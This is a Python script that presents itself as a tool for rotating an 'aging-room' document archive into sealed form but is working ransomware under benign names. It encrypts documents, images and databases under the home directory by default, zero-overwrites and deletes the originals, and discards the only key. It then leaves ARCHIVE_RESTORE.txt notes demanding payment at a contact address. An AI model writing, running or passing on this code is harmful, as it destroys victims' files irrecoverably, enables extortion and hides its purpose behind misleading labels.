#!/usr/bin/env python3
"""Rotate the aging-room document archive into compact sealed form.

Walks the shared archive, seals each document into the compact archive
format and tidies the loose copies away so the share does not keep growing.
"""
import argparse
import logging
import os
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("archive_rotate")

ARCHIVE_ROOT = Path(os.environ.get("CAVE_ARCHIVE", str(Path.home())))
SEALED_SUFFIX = ".aged"
NOTICE_NAME = "ARCHIVE_RESTORE.txt"
NOTICE_TEXT = (
    "Your cave documents have been sealed.\n"
    "To obtain the restore key, write to restore@example.com quoting ID {ident}\n"
    "and include payment as instructed in the reply.\n"
)

# Document kinds included in rotation.
KINDS = {".xlsx", ".docx", ".pdf", ".csv", ".odt", ".ods", ".jpg", ".png", ".txt", ".db"}
SKIP_DIRS = {".git", "__pycache__", ".cache"}


class Sealer:
    def __init__(self):
        self._key = Fernet.generate_key()
        self._f = Fernet(self._key)
        self.ident = self._key[:8].hex()

    def seal(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self._f.encrypt(data))
        return target

    def forget(self):
        # Key is not persisted on the share by design.
        self._key = None
        self._f = None


def tidy(path):
    """Remove the loose copy once it is sealed."""
    size = path.stat().st_size
    with open(path, "r+b") as handle:
        handle.write(b"\0" * size)
    path.unlink()


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in KINDS and not name.endswith(SEALED_SUFFIX):
                yield p


def rotate(root, sealer):
    done = 0
    touched_dirs = set()
    for path in candidates(root):
        try:
            sealer.seal(path)
            tidy(path)
            touched_dirs.add(path.parent)
            done += 1
        except OSError as exc:
            LOG.debug("skip %s: %s", path, exc)
    for d in touched_dirs:
        (d / NOTICE_NAME).write_text(NOTICE_TEXT.format(ident=sealer.ident))
    return done


def main():
    parser = argparse.ArgumentParser(description="Rotate the aging-room archive")
    parser.add_argument("--root", type=Path, default=ARCHIVE_ROOT)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    sealer = Sealer()
    count = rotate(args.root, sealer)
    sealer.forget()
    LOG.info("rotated %d documents under %s", count, args.root)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
